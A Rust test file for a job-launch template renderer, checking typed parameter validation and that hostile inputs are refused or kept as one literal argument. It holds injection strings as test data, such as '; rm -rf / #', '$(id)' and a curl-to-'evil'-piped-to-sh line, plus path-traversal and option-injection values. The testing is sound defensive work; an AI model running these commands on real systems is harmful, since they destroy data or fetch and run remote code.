//! Launch templates: the template's own checks, rendering, and each kind's hostile inputs.

use serde_json::{json, Map, Value};
use stepwatch_events::{FieldError, ParamKind, Template};

fn train() -> Template {
    Template::from_json(
        &json!({
            "name": "train",
            "description": "the demo trainer",
            "argv": ["python", "train.py", "--lr={lr}", "--epochs", "{epochs}", "--amp={amp}",
                     "--note={note}", "{data}", "--opt={opt}", "--resume={ckpt}", "{tag}"],
            "cwd": "/srv/{{jobs}}",
            "env": {"RUN_NOTE": "{note}", "FIXED": "1"},
            "params": [
                {"name": "lr", "kind": {"type": "float", "min": 1e-6, "max": 1.0}, "default": 0.001},
                {"name": "epochs", "kind": {"type": "int", "min": 1, "max": 100}, "default": 3},
                {"name": "amp", "kind": {"type": "bool"}, "default": false},
                {"name": "note", "kind": {"type": "string", "max_len": 40}, "default": "hi"},
                {"name": "data", "kind": {"type": "path"}, "default": "data/mnist"},
                {"name": "opt", "kind": {"type": "choice", "values": ["adam", "sgd"]}, "default": "adam"},
                {"name": "ckpt", "kind": {"type": "path"}, "required": false},
                {"name": "tag", "kind": {"type": "string"}, "help": "free text"}
            ]
        })
        .to_string(),
    )
    .expect("the template is valid")
}

fn params(v: Value) -> Map<String, Value> {
    v.as_object().cloned().expect("an object")
}

fn render_err(t: &Template, v: Value) -> FieldError {
    t.render(&params(v)).expect_err("must be refused")
}

fn template_err(v: Value) -> FieldError {
    let t: Template = serde_json::from_value(v).expect("parses");
    t.check().expect_err("must be refused")
}

fn base(argv: Value, params: Value) -> Value {
    json!({"name": "t", "argv": argv, "params": params})
}

#[test]
fn render_fills_defaults_and_drops_unset_optionals() {
    let t = train();
    let r = t.render(&params(json!({"tag": "run1"}))).unwrap();
    assert_eq!(
        r.argv,
        [
            "python",
            "train.py",
            "--lr=0.001",
            "--epochs",
            "3",
            "--amp=false",
            "--note=hi",
            "data/mnist",
            "--opt=adam",
            "run1"
        ]
    );
    assert_eq!(r.env["RUN_NOTE"], "hi");
    assert_eq!(r.env["FIXED"], "1");
    assert_eq!(r.cwd.as_deref(), Some("/srv/{jobs}"));
    assert_eq!(r.values["epochs"], json!(3));
    assert_eq!(r.values["tag"], json!("run1"));
    assert!(!r.values.contains_key("ckpt"));

    let r = t
        .render(&params(
            json!({"tag": "x", "lr": 1, "ckpt": "ck/last.pt", "amp": true}),
        ))
        .unwrap();
    assert!(r.argv.contains(&"--resume=ck/last.pt".to_string()));
    assert!(r.argv.contains(&"--amp=true".to_string()));
    // An int given for a float is kept as a float.
    assert_eq!(r.values["lr"], json!(1.0));
}

#[test]
fn field_error_displays_field_then_message() {
    let e = render_err(&train(), json!({"tag": "x", "lr": 2}));
    assert_eq!(e.field, "params.lr");
    assert_eq!(
        e.to_string(),
        "params.lr: must be a number between 1e-6 and 1"
    );
}

#[test]
fn template_check_refusals_name_the_field() {
    let e = template_err(base(json!(["run", "{nope}"]), json!([])));
    assert_eq!(e.field, "template.argv[1]");
    assert!(e.message.contains("{nope}"), "{e}");

    let int = json!({"type": "int", "min": 1, "max": 5});
    let e = template_err(base(
        json!(["run"]),
        json!([{"name": "n", "kind": int, "default": 9}]),
    ));
    assert_eq!(e.field, "template.params.n.default");
    let e = template_err(base(
        json!(["run"]),
        json!([{"name": "n", "kind": int, "default": "3"}]),
    ));
    assert_eq!(e.field, "template.params.n.default");

    let dup =
        json!([{"name": "n", "kind": {"type": "bool"}}, {"name": "n", "kind": {"type": "bool"}}]);
    let e = template_err(base(json!(["run"]), dup));
    assert_eq!(e.field, "template.params.n.name");
    assert!(e.message.contains("twice"));

    let e = template_err(base(json!([]), json!([])));
    assert_eq!(e.field, "template.argv");

    let e = template_err(base(
        json!(["run"]),
        json!([{"name": "1x", "kind": {"type": "bool"}}]),
    ));
    assert_eq!(e.field, "template.params[0].name");

    let e = template_err(base(
        json!(["run", "{a"]),
        json!([{"name": "a", "kind": {"type": "bool"}}]),
    ));
    assert_eq!(e.field, "template.argv[1]");
    let e = template_err(base(json!(["run", "a}"]), json!([])));
    assert_eq!(e.field, "template.argv[1]");

    let e = template_err(base(
        json!(["{a}"]),
        json!([{"name": "a", "kind": {"type": "bool"}}]),
    ));
    assert_eq!(e.field, "template.argv[0]");

    let bad_range = json!([{"name": "a", "kind": {"type": "float", "min": 2.0, "max": 1.0}}]);
    let e = template_err(base(json!(["run"]), bad_range));
    assert_eq!(e.field, "template.params.a.kind");

    let e = template_err(base(
        json!(["run"]),
        json!([{"name": "c", "kind": {"type": "choice", "values": []}}]),
    ));
    assert_eq!(e.field, "template.params.c.kind");

    let mut t: Template = serde_json::from_value(base(
        json!(["run"]),
        json!([{"name": "a", "kind": {"type": "bool"}}]),
    ))
    .unwrap();
    t.cwd = Some("/w/{a}".into());
    assert_eq!(t.check().unwrap_err().field, "template.cwd");
    t.cwd = None;
    t.env.insert("X".into(), "{b}".into());
    assert_eq!(t.check().unwrap_err().field, "template.env.X");
    t.env.clear();
    t.env.insert("BAD-NAME".into(), "1".into());
    assert_eq!(t.check().unwrap_err().field, "template.env.BAD-NAME");
    t.env.clear();
    t.params[0].kind = ParamKind::Float {
        min: Some(f64::NAN),
        max: None,
    };
    assert_eq!(t.check().unwrap_err().field, "template.params.a.kind");
}

#[test]
fn unknown_fields_and_bad_json_are_refused() {
    let extra = base(json!(["run"]), json!([]))
        .as_object()
        .cloned()
        .map(|mut m| {
            m.insert("shell".into(), json!("bash -c"));
            Value::Object(m)
        });
    assert!(serde_json::from_value::<Template>(extra.unwrap()).is_err());
    let kind_extra = base(
        json!(["run"]),
        json!([{"name": "a", "kind": {"type": "int", "mni": 1}}]),
    );
    assert!(serde_json::from_value::<Template>(kind_extra).is_err());
    let e = Template::from_json("{\"name\": 1}").unwrap_err();
    assert_eq!(e.field, "template");
}

#[test]
fn unknown_and_missing_params_are_refused() {
    let t = train();
    let e = render_err(&t, json!({"tag": "x", "lr_typo": 0.1}));
    assert_eq!(e.field, "params.lr_typo");
    assert!(e.message.contains("not a parameter"));
    let e = render_err(&t, json!({}));
    assert_eq!(
        (e.field.as_str(), e.message.as_str()),
        ("params.tag", "is required")
    );
}

#[test]
fn each_kind_refuses_hostile_values_naming_the_param() {
    let t = train();
    let cases = [
        ("epochs", json!("3")),
        ("epochs", json!(3.0)),
        ("epochs", json!(3.5)),
        ("epochs", json!(0)),
        ("epochs", json!(101)),
        ("epochs", json!(u64::MAX)),
        ("epochs", json!(null)),
        ("lr", json!("0.1")),
        ("lr", json!("NaN")),
        ("lr", json!("Infinity")),
        ("lr", json!(0.0)),
        ("lr", json!(1e300)),
        ("amp", json!("true")),
        ("amp", json!(1)),
        ("note", json!(7)),
        ("note", json!("x".repeat(41))),
        ("opt", json!("rmsprop")),
        ("opt", json!(["adam"])),
        ("data", json!("/etc/passwd")),
        ("data", json!("../secrets")),
        ("data", json!("a/../../b")),
        ("data", json!("a\\b")),
        ("data", json!("")),
        ("data", json!("-rf")),
        ("data", json!(1)),
    ];
    for (name, v) in cases {
        let mut p = params(json!({"tag": "x"}));
        p.insert(name.into(), v.clone());
        let e = t
            .render(&p)
            .expect_err(&format!("{name} = {v} must be refused"));
        assert_eq!(e.field, format!("params.{name}"), "{name} = {v}: {e}");
        // The as-you-type check agrees with render.
        assert_eq!(t.check_param(name, &v).unwrap_err(), e);
    }
    // Boundaries are inclusive.
    let ok = t
        .render(&params(json!({"tag": "x", "epochs": 100, "lr": 1e-6})))
        .unwrap();
    assert_eq!(ok.values["epochs"], json!(100));
}

#[test]
fn nul_and_newlines_are_refused_everywhere() {
    let t = train();
    for bad in ["a\0b", "a\nb", "a\rb", "\u{1b}[31m"] {
        for name in ["tag", "note", "data"] {
            let mut p = params(json!({"tag": "x"}));
            p.insert(name.into(), json!(bad));
            let e = t.render(&p).unwrap_err();
            assert_eq!(e.field, format!("params.{name}"));
            assert!(e.message.contains("control"), "{e}");
        }
    }
}

#[test]
fn injection_attempts_stay_one_literal_argument() {
    let t = train();
    let before = t.render(&params(json!({"tag": "x"}))).unwrap().argv.len();
    for hostile in [
        "; rm -rf / #",
        "$(id)",
        "`id`",
        "a b c",
        "x' && curl evil | sh '",
        "{lr}",
        "{{",
    ] {
        let r = t.render(&params(json!({"tag": hostile}))).unwrap();
        assert_eq!(r.argv.len(), before, "{hostile} changed the argument count");
        assert_eq!(r.argv.last().map(String::as_str), Some(hostile));
        let r = t
            .render(&params(json!({"tag": "x", "note": hostile})))
            .unwrap();
        assert!(r.argv.contains(&format!("--note={hostile}")));
        assert_eq!(r.env["RUN_NOTE"], hostile);
    }
    // After a prefix, a value beginning with '-' is only the option's value.
    let r = t
        .render(&params(json!({"tag": "x", "note": "--config=/etc"})))
        .unwrap();
    assert!(r.argv.contains(&"--note=--config=/etc".to_string()));
}

#[test]
fn option_injection_rule() {
    let t = train();
    // A free-form string whose placeholder is the whole argument may not begin with '-'.
    for v in ["--config=/etc/passwd", "-rf", "-"] {
        let e = render_err(&t, json!({"tag": v}));
        assert_eq!(e.field, "params.tag");
        assert!(e.message.contains("option"), "{e}");
    }
    // Nor where the placeholder starts the argument.
    let tpl = json!({"name": "t", "argv": ["run", "{a}.txt", "{b}{a}"], "params": [
        {"name": "a", "kind": {"type": "string"}, "default": "a"},
        {"name": "b", "kind": {"type": "string"}, "default": ""}]});
    let t2 = Template::from_json(&tpl.to_string()).unwrap();
    assert_eq!(
        t2.render(&params(json!({"a": "-x"}))).unwrap_err().field,
        "params.a"
    );
    // A value before it does not count as fixed text: "{b}{a}" may begin with either.
    assert_eq!(
        t2.render(&params(json!({"a": "-x", "b": "3"})))
            .unwrap_err()
            .field,
        "params.a"
    );
    // The as-you-type check applies the same rule.
    assert_eq!(
        t.check_param("tag", &json!("-v")).unwrap_err().field,
        "params.tag"
    );
    assert_eq!(t.check_param("note", &json!("-v")).unwrap(), json!("-v"));
    assert_eq!(
        t2.render(&params(json!({"a": "ok", "b": "-x"})))
            .unwrap_err()
            .field,
        "params.b"
    );
    assert_eq!(
        t2.render(&params(json!({"a": "ok"}))).unwrap().argv,
        ["run", "ok.txt", "ok"]
    );
    // Not starting with '-' is fine; a leading '-' in the middle is fine.
    let r = t.render(&params(json!({"tag": "a-b"}))).unwrap();
    assert_eq!(r.argv.last().map(String::as_str), Some("a-b"));
    // Admin-declared choices and defaults may begin with '-'.
    let tpl = json!({"name": "t", "argv": ["run", "{m}", "{d}"], "params": [
        {"name": "m", "kind": {"type": "choice", "values": ["-v", "-q"]}},
        {"name": "d", "kind": {"type": "string"}, "default": "--dry-run"}]});
    let t3 = Template::from_json(&tpl.to_string()).unwrap();
    assert_eq!(
        t3.render(&params(json!({"m": "-q"}))).unwrap().argv,
        ["run", "-q", "--dry-run"]
    );
    // Numbers are numbers: a negative int is allowed where min allows it.
    let tpl = json!({"name": "t", "argv": ["run", "{n}"], "params": [
        {"name": "n", "kind": {"type": "int", "min": -5}}]});
    let t4 = Template::from_json(&tpl.to_string()).unwrap();
    assert_eq!(
        t4.render(&params(json!({"n": -3}))).unwrap().argv,
        ["run", "-3"]
    );
}

#[test]
fn template_roundtrips_through_json() {
    let t = train();
    let text = serde_json::to_string(&t).unwrap();
    assert_eq!(Template::from_json(&text).unwrap(), t);
    let kind: Value = serde_json::to_value(&t.params[1].kind).unwrap();
    assert_eq!(kind, json!({"type": "int", "min": 1, "max": 100}));
    assert!(t.param("tag").unwrap().is_required());
    assert!(!t.param("ckpt").unwrap().is_required());
    assert!(!t.param("lr").unwrap().is_required());
}
